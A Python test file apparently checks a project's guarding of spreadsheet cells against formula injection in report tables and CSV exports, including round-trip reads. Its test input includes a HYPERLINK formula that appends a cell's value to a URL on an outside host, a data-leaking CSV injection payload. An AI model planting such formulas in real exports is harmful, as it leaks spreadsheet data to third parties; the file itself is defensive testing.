"""Cells of tables that spreadsheets open."""

import csv
import io
from dataclasses import replace

import numpy as np
import pytest

from rlrat.reports.cells import guarded, unguarded
from rlrat.reports.importing import import_runs, write_table
from rlrat.reports.read import read_runs
from rlrat.reports.tables import Table, TableCell
from tests.reports.run_folders import write_run

FORMULA = '=HYPERLINK("http://a.org?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "@SUM(1)", "-1+2", "+1+2", "\t=1", "\r=1", "'=1", "''=1", "--", "-a"])
def test_no_text_is_a_formula(text):
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "value", [-1.5, -3, float("-inf"), "-1.5", "+2e3", "-inf", "-", "=", "", "a=1", "relu", "'a", "'"]
)
def test_numbers_and_names_stay_as_they_are(value):
    assert guarded(value) is value
    if isinstance(value, str):
        assert unguarded(value) == value


def test_tables_have_no_formulas():
    table = Table("Title", ("task", FORMULA), ((TableCell("@a"), TableCell("-5.0", -5.0, details={"=sd": -0.5})),))
    assert list(csv.reader(io.StringIO(table.csv()))) == [
        ["task", f"'{FORMULA}", f"{FORMULA} =sd".replace("=", "'=", 1)],
        ["'@a", "-5.0", "-0.5"],
    ]


def test_curves_have_no_formulas_and_are_read_as_they_were(tmp_path):
    path = tmp_path / "curves.csv"
    write_run(tmp_path / "runs", [-100.0, 321.4])
    (run,) = read_runs([tmp_path / "runs"])
    run = replace(run, agent=FORMULA, dataset="@data", activation="-relu")
    write_table([run], path)
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["agent"][:2] + row["dataset"][:2] + row["activation"][:2] for row in rows] == ["'='@'-"] * 2
    assert [float(row["score"]) for row in rows] == pytest.approx(run.scores.tolist(), rel=1e-5)
    assert rows[0]["score"].startswith("-")
    (found,) = import_runs([str(path)])
    assert (found.agent, found.dataset, found.activation) == (FORMULA, "@data", "-relu")
    np.testing.assert_allclose(found.scores, run.scores, rtol=1e-5)
